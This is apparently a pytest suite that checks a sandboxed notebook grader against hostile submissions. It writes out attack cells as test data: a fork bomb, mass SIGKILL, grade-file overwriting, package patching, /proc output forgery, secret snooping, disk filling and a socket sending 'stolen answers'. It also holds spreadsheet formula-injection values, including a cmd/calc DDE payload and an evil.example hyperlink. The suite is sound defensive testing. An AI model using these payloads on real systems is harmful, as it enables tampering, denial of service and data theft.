"""Hostile and careless submissions against `python -m roofline grade` (issue 15).

One sandboxed grading run (a module fixture, so the kernels start once) holds honest
neighbours next to attacks; every attack's test asserts that it failed AND that the honest
neighbours kept exactly their grades. Each attack reports what it managed to do by raising
an exception, which the grader writes as a NOTE row ("code cell N raised ...").
Needs bubblewrap and Linux (CI installs it: .ci/run); skipped where bwrap is missing.
"""

import csv
import hashlib
import os
import random
import shutil
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT / "tests" / "data" / "submissions"))
import make_samples  # noqa: E402

import roofline  # noqa: E402
from roofline.exercises import grading  # noqa: E402

pytestmark = [
    pytest.mark.slow,
    pytest.mark.xdist_group("grading-attacks"),
    pytest.mark.skipif(
        not sys.platform.startswith("linux") or shutil.which("bwrap") is None,
        reason="the sandbox needs Linux and bubblewrap (apt-get install bubblewrap)",
    ),
]

CELL_S, PROCESSES, MEMORY_MB, DISK_MB, JOBS = 6, 64, 2000, 32, 2
QUESTIONS = [f"q{i}" for i in range(1, 9)]
PACKAGE_FILES = [
    Path(roofline.__file__).parent / "exercises" / name for name in ("core.py", "homework.py")
]
ROSTER = ["alice", "bob", "zoe", "wendy", "ghost", "uma", "dee", "nina", "sam", "dora", "hank"]
UID_BASE = 300000 + 8 * random.randrange(50000)  # several test runs may share this machine


def _sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _sandbox_processes(base: int, count: int) -> list[str]:
    """Processes still running as a sandbox uid (there must be none after grading)."""
    left = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                if base <= os.stat(f"/proc/{entry}").st_uid < base + count:
                    left.append(
                        Path(f"/proc/{entry}/cmdline").read_bytes().replace(b"\0", b" ").decode()
                    )
            except OSError:
                pass
    return left


class _Listener:
    """A TCP server on 127.0.0.1 that counts the connections it accepts."""

    def __init__(self):
        self.server = socket.socket()
        self.server.bind(("127.0.0.1", 0))
        self.server.listen(16)
        self.server.settimeout(0.2)
        self.port = self.server.getsockname()[1]
        self.accepted, self.stop = 0, False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self.stop:
            try:
                connection, _ = self.server.accept()
                self.accepted += 1
                connection.close()
            except OSError:
                continue

    def close(self):
        self.stop = True
        self.thread.join(2)
        self.server.close()


def _attacks(folder: Path, out: Path, port: int) -> dict:
    """Write every submission; return {file: (student id, answers template, what it does)}."""
    alice = folder / "alice.ipynb"
    journal = out.with_name(out.name + ".journal")
    fake = (
        '{"has_id": true, "student_id": "mallory-forge", "answers": {'
        + ", ".join(f'"{q}": {{"type": "float", "value": "1.0"}}' for q in QUESTIONS)
        + "}}"
    )
    cells = {
        # 1. a forged report on stdout/stderr, in every way a cell can write there
        "forge_stdout": (
            "mallory-forge",
            {},
            {
                "q1": (
                    "import os, sys\n"
                    f"fake = {fake!r}\n"
                    "os.write(1, (fake + '\\n').encode()); os.write(2, (fake + '\\n').encode())\n"
                    "print(fake); sys.__stdout__.write(fake + '\\n'); sys.__stdout__.flush()"
                )
            },
        ),
        # 2. the same through every /proc/<pid>/fd/1 it can open (another student's worker)
        "proc_fds": (
            "mallory-proc",
            make_samples.CORRECT,
            {
                "q1": (
                    "import os\n"
                    f"fake = {fake!r}\n"
                    "pids = [p for p in os.listdir('/proc') if p.isdigit()]\n"
                    "wrote = 0\n"
                    "for p in pids:\n"
                    "    for fd in (1, 2):\n"
                    "        try:\n"
                    "            with open(f'/proc/{p}/fd/{fd}', 'w') as h: h.write(fake + '\\n'); wrote += 1\n"
                    "        except OSError: pass\n"
                    "raise RuntimeError(f'saw {len(pids)} pids')"
                )
            },
        ),
        # 3. a detached background process that keeps rewriting the CSV and the journal
        "csv_rewriter": (
            "mallory-csv",
            make_samples.CORRECT,
            {
                "q1": (
                    "import os, time\n"
                    f"targets = [{str(out)!r}, {str(journal)!r}]\n"
                    "if os.fork() == 0:\n"
                    "    os.setsid()\n"
                    "    if os.fork() == 0:\n"
                    "        for _ in range(600):\n"
                    "            for t in targets:\n"
                    "                try:\n"
                    "                    with open(t, 'w') as h: h.write('student_id,file\\nhacked,all\\n')\n"
                    "                except OSError: pass\n"
                    "            time.sleep(0.05)\n"
                    "    os._exit(0)\n"
                    "ok = []\n"
                    "for t in targets:\n"
                    "    try:\n"
                    "        open(t, 'a').close(); ok.append(t)\n"
                    "    except OSError as e: pass\n"
                    "raise RuntimeError(f'could write {len(ok)} targets')"
                )
            },
        ),
        # 4. vandalising a neighbour's submission, reading the others
        "vandal": (
            "mallory-vandal",
            make_samples.CORRECT,
            {
                "q1": (
                    "import os\n"
                    "done = []\n"
                    f"for action in ('write', 'delete', 'list'):\n"
                    "    try:\n"
                    f"        if action == 'write': open({str(alice)!r}, 'w').write('{{}}')\n"
                    f"        elif action == 'delete': os.remove({str(alice)!r})\n"
                    f"        else: os.listdir({str(folder)!r})\n"
                    "        done.append(action)\n"
                    "    except OSError: pass\n"
                    "raise RuntimeError(f'managed {len(done)} of 3')"
                )
            },
        ),
        # 5. patching the installed package (for the grader and the next run) and its own copy
        "patcher": (
            "mallory-patch",
            {q: "1" for q in QUESTIONS},
            {
                "q1": (
                    "import os\n"
                    "from roofline.exercises import core, homework\n"
                    "done = 0\n"
                    "for f in (core.__file__, homework.__file__):\n"
                    "    try:\n"
                    "        open(f, 'a').write('\\nraise SystemExit\\n'); done += 1\n"
                    "    except OSError: pass\n"
                    "homework.check = lambda *a, **k: core.Feedback('x', True, 'All right!')\n"
                    "core.check = homework.check\n"
                    "raise RuntimeError(f'patched {done} files')"
                )
            },
        ),
        # 6. killing the grader: everything it can signal
        "killer": (
            "mallory-kill",
            make_samples.CORRECT,
            {
                "q5": (
                    "import os, signal\n"
                    "for p in [int(p) for p in os.listdir('/proc') if p.isdigit()]:\n"
                    "    if p != os.getpid():\n"
                    "        try: os.kill(p, signal.SIGKILL)\n"
                    "        except OSError: pass\n"
                    "for target in (os.getppid(), -1):\n"
                    "    try: os.kill(target, signal.SIGKILL)\n"
                    "    except OSError: pass\n"
                    "os.kill(os.getpid(), signal.SIGKILL)"
                )
            },
        ),
        # 7. a forked child that keeps every inherited descriptor (pipes, sockets) open
        "pipe_holder": (
            "mallory-pipes",
            make_samples.CORRECT,
            {
                "q2": (
                    "import os, time\n"
                    "if os.fork() == 0:\n"
                    "    os.setsid()\n"
                    "    time.sleep(3600)\n"
                    "    os._exit(0)"
                )
            },
        ),
        # 8. a fork bomb, bounded by the process limit
        "fork_bomb": (
            "mallory-bomb",
            make_samples.CORRECT,
            {
                "q3": (
                    "import os, time\n"
                    "n = 0\n"
                    "try:\n"
                    "    for _ in range(100000):\n"
                    "        if os.fork() == 0:\n"
                    "            time.sleep(300); os._exit(0)\n"
                    "        n += 1\n"
                    "except OSError as e:\n"
                    "    raise RuntimeError(f'forked {n} then {type(e).__name__}')"
                )
            },
        ),
        # 9. a memory hog, bounded by the memory limit
        "memory_hog": (
            "mallory-memory",
            make_samples.CORRECT,
            {"q4": (f"x = bytearray({MEMORY_MB + 1000} * 2 ** 20)")},
        ),
        # 10. a connection to a server the test runs on 127.0.0.1
        "network": (
            "mallory-net",
            make_samples.CORRECT,
            {
                "q6": (
                    "import socket\n"
                    f"s = socket.create_connection(('127.0.0.1', {port}), timeout=3)\n"
                    "s.sendall(b'stolen answers')"
                )
            },
        ),
        # 11. careless: low-level output without a final newline
        "no_newline": (
            "nina",
            make_samples.CORRECT,
            {
                "q2": (
                    "import os, sys\n"
                    "os.write(1, b'{\"partial\": '); os.write(2, b'{')\n"
                    "sys.stdout.write('{no newline'); sys.stdout.flush()"
                )
            },
        ),
        # 12. careless: slow but legal cells, more in all than the old cap per notebook
        "slow_legal": (
            "sam",
            make_samples.CORRECT,
            {q: f"import time\ntime.sleep({CELL_S * 0.5})" for q in ("q2", "q4", "q6")},
        ),
        # 13. a cell that kills its own kernel: only that cell is lost
        "dead_kernel": ("dora", make_samples.CORRECT, {"q5": "import os\nos._exit(3)"}),
        # 14. a cell that ignores the interrupt: killed, the rest still graded
        "hung_kernel": (
            "hank",
            make_samples.CORRECT,
            {
                "q3": (
                    "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass"
                )
            },
        ),
        # 17. snooping: environment, home folder, filling the disk
        "snoop": (
            "mallory-snoop",
            make_samples.CORRECT,
            {
                "q7": (
                    "import os\n"
                    "secret = os.environ.get('ROOFLINE_TEST_SECRET', 'none')\n"
                    "home = sorted(n for n in os.listdir(os.path.expanduser('~')) if not n.startswith('.'))\n"
                    "written = 0\n"
                    "try:\n"
                    "    for i in range(10000):\n"
                    "        for d in (os.path.expanduser('~'), '/tmp'):\n"
                    "            with open(os.path.join(d, f'fill{i}'), 'wb') as h: h.write(b'x' * 2 ** 20)\n"
                    "            written += 1\n"
                    "except OSError:\n"
                    "    pass\n"
                    "raise RuntimeError(f'secret={secret} home={\",\".join(home)} filled={written}MiB')"
                )
            },
        ),
        # 15. spreadsheet formulas in the id and the answers
        "formula": (
            '=HYPERLINK("http://evil.example","x")',
            {"q1": '"@SUM(A1:A9)"', "q2": "\"+1+cmd|' /C calc'!A0\"", "q3": "-5", "q4": '"-2+3"'},
            None,
        ),
        # 16. a 20 MB id and a 10 MB answer
        "huge": ("huge", {"q1": '"y" * 10_000_000'}, {"q1": 'STUDENT_ID = "h" * 20_000_000'}),
    }
    samples = {}
    for name, (sid, answers, extra) in cells.items():
        make_samples.make(folder / f"{name}.ipynb", sid, answers, extra)
        samples[f"{name}.ipynb"] = sid
    for name, sid, answers in (
        ("alice.ipynb", "alice", make_samples.CORRECT),
        ("bob.ipynb", "bob", make_samples.PARTLY_WRONG),
        ("zoe.ipynb", "zoe", make_samples.CORRECT),
        ("wendy.ipynb", "trudy", make_samples.CORRECT),
    ):
        make_samples.make(folder / name, sid, answers)
        samples[name] = sid
    # every file gets a row: case of the extension, subfolders, other files, checkpoints
    make_samples.make(folder / "UMA.IPYNB", "uma", make_samples.CORRECT)
    (folder / "late").mkdir()
    make_samples.make(folder / "late" / "dee.ipynb", "dee", make_samples.CORRECT)
    (folder / "notes.json").write_text("{}")
    (folder / "README").write_text("hand-in folder")
    (folder / ".ipynb_checkpoints").mkdir()
    make_samples.make(folder / ".ipynb_checkpoints" / "alice-checkpoint.ipynb", "alice", {})
    return samples


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    """The one grading run, shared by every test here even when pytest-xdist hands them to
    different workers (it may split an xdist_group): the first worker runs it under a lock,
    the others read its result."""
    import fcntl
    import json

    run_id = os.environ.get("PYTEST_XDIST_TESTRUNUID")
    if not run_id:  # no xdist: this session only
        return _grade_all(tmp_path_factory.mktemp("attacks"))
    # pytest-N/ above this worker's popen-gwK/: one per session, shared by its workers
    shared = tmp_path_factory.getbasetemp().parent / f"grading-attacks-{run_id}"
    shared.mkdir(exist_ok=True)
    with open(shared / "lock", "w") as lock:
        fcntl.flock(lock, fcntl.LOCK_EX)
        result = shared / "result.json"
        if not result.exists():
            # and no other test's grading run at the same time (conftest's one_grader_at_a_time)
            with open(tmp_path_factory.getbasetemp().parent / "roofline-grader.lock", "w") as g:
                fcntl.flock(g, fcntl.LOCK_EX)
                graded = _grade_all(shared / "run")
            saved = {
                **graded,
                "result": {
                    "returncode": graded["result"].returncode,
                    "stderr": graded["result"].stderr,
                },
                "out": str(graded["out"]),
                "folder": str(graded["folder"]),
                "before": {str(k): v for k, v in graded["before"].items()},
            }
            result.write_text(json.dumps(saved))
        saved = json.loads(result.read_text())
    return {
        **saved,
        "result": subprocess.CompletedProcess(
            [], saved["result"]["returncode"], "", saved["result"]["stderr"]
        ),
        "out": Path(saved["out"]),
        "folder": Path(saved["folder"]),
        "before": {Path(k): v for k, v in saved["before"].items()},
    }


def _grade_all(tmp: Path) -> dict:
    tmp.mkdir(parents=True, exist_ok=True)
    folder, out = tmp / "submissions", tmp / "out" / "grades.csv"
    folder.mkdir()
    out.parent.mkdir()
    listener = _Listener()
    try:
        samples = _attacks(folder, out, listener.port)
        roster = tmp / "roster.txt"
        roster.write_text("student_id\n" + "\n".join(ROSTER) + "\n")
        before = {p: _sha(p) for p in PACKAGE_FILES}
        alice_sha = _sha(folder / "alice.ipynb")
        result = subprocess.run(
            [
                sys.executable,
                "-m",
                "roofline",
                "grade",
                str(folder),
                "--out",
                str(out),
                "--timeout",
                str(CELL_S),
                "--jobs",
                str(JOBS),
                "--processes",
                str(PROCESSES),
                "--memory-mb",
                str(MEMORY_MB),
                "--roster",
                str(roster),
                "--sandbox",
                "bwrap",
                "--sandbox-uid",
                str(UID_BASE),
                "--disk-mb",
                str(DISK_MB),
            ],
            cwd=ROOT,
            capture_output=True,
            text=True,
            timeout=600,
            env={**os.environ, "ROOFLINE_TEST_SECRET": "s3cr3t"},
        )
        time.sleep(1.0)  # give a surviving background writer time to strike
        leftovers = _sandbox_processes(UID_BASE, JOBS) if os.geteuid() == 0 else []
        with open(out, newline="", encoding="utf-8") as handle:
            rows = list(csv.DictReader(handle))
    finally:
        listener.close()
    return {
        "result": result,
        "rows": rows,
        "samples": samples,
        "out": out,
        "folder": folder,
        "before": before,
        "alice_sha": alice_sha,
        "leftovers": leftovers,
        "accepted": listener.accepted,
        "csv_text": out.read_text(encoding="utf-8"),
    }


def _by_file(graded, file):
    return [r for r in graded["rows"] if r["file"] == file]


def _total(graded, file):
    totals = [r["correct"] for r in _by_file(graded, file) if r["exercise"] == "TOTAL"]
    assert len(totals) == 1, _by_file(graded, file)
    return totals[0]


def _notes(graded, file):
    return [r["feedback"] for r in _by_file(graded, file) if r["exercise"] == "NOTE"]


def _neighbours_intact(graded):
    """alice, zoe, uma, dee: 8/8 with every answer right; bob: exactly q4 right."""
    for file in ("alice.ipynb", "zoe.ipynb", "UMA.IPYNB", "late/dee.ipynb"):
        rows = [r for r in _by_file(graded, file) if r["exercise"].startswith("part1/")]
        assert [r["correct"] for r in rows] == ["yes"] * 8, (file, rows)
        assert _total(graded, file) == "8/8"
    bob = {r["exercise"]: r["correct"] for r in _by_file(graded, "bob.ipynb")}
    assert bob == {**{f"part1/{q}": "no" for q in QUESTIONS}, "part1/q4": "yes", "TOTAL": "1/8"}


def test_grader_finishes_and_the_csv_reads_back(graded):
    assert graded["result"].returncode == 0, graded["result"].stderr[-3000:]
    assert list(graded["rows"][0]) == list(grading.FIELDS)
    # csv's default field limit (131072 characters) was enough to read every row back
    assert max(len(v) for r in graded["rows"] for v in r.values()) <= grading.FEEDBACK_CAP
    _neighbours_intact(graded)


def test_forged_stdout_report_is_ignored(graded):
    rows = _by_file(graded, "forge_stdout.ipynb")
    assert _total(graded, "forge_stdout.ipynb") == "0/8"
    assert all(r["feedback"] == "unanswered" for r in rows if r["exercise"].startswith("part1/")), (
        rows
    )
    assert "mallory-forge" not in {
        r["student_id"] for r in graded["rows"] if r["file"] != "forge_stdout.ipynb"
    }
    _neighbours_intact(graded)


def test_writes_through_proc_reach_only_the_own_sandbox(graded):
    notes = _notes(graded, "proc_fds.ipynb")
    seen = [int(n.split("saw ")[1].split()[0]) for n in notes if "saw " in n]
    assert seen and seen[0] <= 4, notes  # bwrap's init, the kernel: no grader, no neighbour
    assert _total(graded, "proc_fds.ipynb") == "8/8"
    _neighbours_intact(graded)


def test_background_writer_cannot_touch_the_csv_or_journal(graded):
    assert any("could write 0 targets" in n for n in _notes(graded, "csv_rewriter.ipynb"))
    assert "hacked" not in graded["csv_text"]
    assert graded["out"].read_text(encoding="utf-8") == graded["csv_text"]
    assert _total(graded, "csv_rewriter.ipynb") == "8/8"
    _neighbours_intact(graded)


def test_neighbour_submissions_are_invisible(graded):
    assert any("managed 0 of 3" in n for n in _notes(graded, "vandal.ipynb"))
    assert _sha(graded["folder"] / "alice.ipynb") == graded["alice_sha"]
    _neighbours_intact(graded)


def test_package_cannot_be_patched(graded):
    assert any("patched 0 files" in n for n in _notes(graded, "patcher.ipynb"))
    assert {p: _sha(p) for p in PACKAGE_FILES} == graded["before"]
    # its kernel's own patched checker says "All right!"; the grader's verdicts do not care
    assert _total(graded, "patcher.ipynb") == "0/8"
    _neighbours_intact(graded)


def test_killing_everything_costs_only_that_cell(graded):
    notes = _notes(graded, "killer.ipynb")
    assert any("stopped its kernel" in n and "SIGKILL" in n for n in notes), notes
    assert _total(graded, "killer.ipynb") == "8/8"
    _neighbours_intact(graded)


def test_no_process_outlives_its_notebook(graded):
    if os.geteuid() != 0:
        pytest.skip("sandbox uids are used only when the grader runs as root")
    assert graded["leftovers"] == []
    assert _total(graded, "pipe_holder.ipynb") == "8/8"
    _neighbours_intact(graded)


def test_fork_bomb_is_bounded_by_the_process_limit(graded):
    notes = _notes(graded, "fork_bomb.ipynb")
    forked = [int(n.split("forked ")[1].split()[0]) for n in notes if "forked " in n]
    assert forked and 0 < forked[0] < PROCESSES, notes
    assert _total(graded, "fork_bomb.ipynb") == "8/8"
    _neighbours_intact(graded)


def test_memory_hog_is_bounded_by_the_memory_limit(graded):
    notes = _notes(graded, "memory_hog.ipynb")
    assert any("MemoryError" in n for n in notes), notes
    assert _total(graded, "memory_hog.ipynb") == "8/8"
    _neighbours_intact(graded)


def test_no_network_not_even_loopback(graded):
    assert graded["accepted"] == 0
    notes = _notes(graded, "network.ipynb")
    assert any(
        "raised" in n and ("Refused" in n or "unreachable" in n.lower() or "OSError" in n)
        for n in notes
    ), notes
    _neighbours_intact(graded)


def test_output_without_newline_is_harmless(graded):
    assert _total(graded, "no_newline.ipynb") == "8/8"
    assert _notes(graded, "no_newline.ipynb") == []


def test_slow_but_legal_cells_are_graded(graded):
    assert _total(graded, "slow_legal.ipynb") == "8/8"
    assert _notes(graded, "slow_legal.ipynb") == []


def test_dead_kernel_costs_only_that_cell(graded):
    notes = _notes(graded, "dead_kernel.ipynb")
    assert any("stopped its kernel" in n and "status 3" in n for n in notes), notes
    assert _total(graded, "dead_kernel.ipynb") == "8/8"


def test_cell_ignoring_interrupt_is_killed_and_the_rest_graded(graded):
    notes = _notes(graded, "hung_kernel.ipynb")
    assert any("could not be stopped" in n for n in notes), notes
    assert _total(graded, "hung_kernel.ipynb") == "8/8"


def test_clean_environment_private_home_and_capped_disk(graded):
    notes = [n for n in _notes(graded, "snoop.ipynb") if "secret=" in n]
    assert len(notes) == 1, _notes(graded, "snoop.ipynb")
    assert "secret=none" in notes[0] and "home=submission.ipynb " in notes[0], notes
    filled = int(notes[0].split("filled=")[1].split("MiB")[0])
    assert DISK_MB - 4 <= filled <= 2 * DISK_MB, notes  # home and /tmp: DISK_MB each, then full
    assert _total(graded, "snoop.ipynb") == "8/8"
    _neighbours_intact(graded)


def test_formulas_are_neutralised(graded):
    rows = _by_file(graded, "formula.ipynb")
    assert {r["student_id"] for r in rows} == {'\'=HYPERLINK("http://evil.example","x")'}
    submitted = {r["exercise"]: r["submitted"] for r in rows}
    assert submitted["part1/q1"] == "'@SUM(A1:A9)"
    assert submitted["part1/q2"].startswith("'+1+cmd")
    assert submitted["part1/q3"] == "-5"  # a plain negative number stays a number
    assert submitted["part1/q4"] == "'-2+3"
    for row in graded["rows"]:
        for value in row.values():
            assert value[:1] not in ("=", "+", "@") and not (value[:1] == "-" and "+" in value), row


def test_huge_id_and_answer_are_capped(graded):
    rows = _by_file(graded, "huge.ipynb")
    assert rows and all(len(r["student_id"]) <= grading.ID_CAP for r in rows)
    assert any("20000000 characters long" in n for n in _notes(graded, "huge.ipynb"))
    q1 = [r for r in rows if r["exercise"] == "part1/q1"][0]
    assert 0 < len(q1["submitted"]) <= grading.SUBMITTED_CAP
    assert len(graded["csv_text"]) < 200_000


def test_every_file_gets_a_row(graded):
    files = {
        r["file"]: r["exercise"] for r in graded["rows"] if r["exercise"] in ("SKIPPED", "TOTAL")
    }
    assert files["UMA.IPYNB"] == "TOTAL" and files["late/dee.ipynb"] == "TOTAL"
    skipped = {r["file"]: r["feedback"] for r in graded["rows"] if r["exercise"] == "SKIPPED"}
    assert set(skipped) == {"notes.json", "README", ".ipynb_checkpoints/alice-checkpoint.ipynb"}
    assert "not a notebook (a .json file)" in skipped["notes.json"]
    assert "checkpoint" in skipped[".ipynb_checkpoints/alice-checkpoint.ipynb"]
    graded_files = {r["file"] for r in graded["rows"] if r["exercise"] == "TOTAL"}
    assert graded_files == set(graded["samples"]) | {"UMA.IPYNB", "late/dee.ipynb"}


def test_roster_flags_strangers_missing_students_and_borrowed_names(graded):
    wendy = _notes(graded, "wendy.ipynb")
    assert any("not on the roster" in n for n in wendy), wendy
    assert any("named for wendy" in n and "trudy" in n for n in wendy), wendy
    missing = {r["student_id"] for r in graded["rows"] if r["exercise"] == "MISSING"}
    assert missing == {"wendy", "ghost"}
    assert not any("not on the roster" in n for n in _notes(graded, "alice.ipynb"))
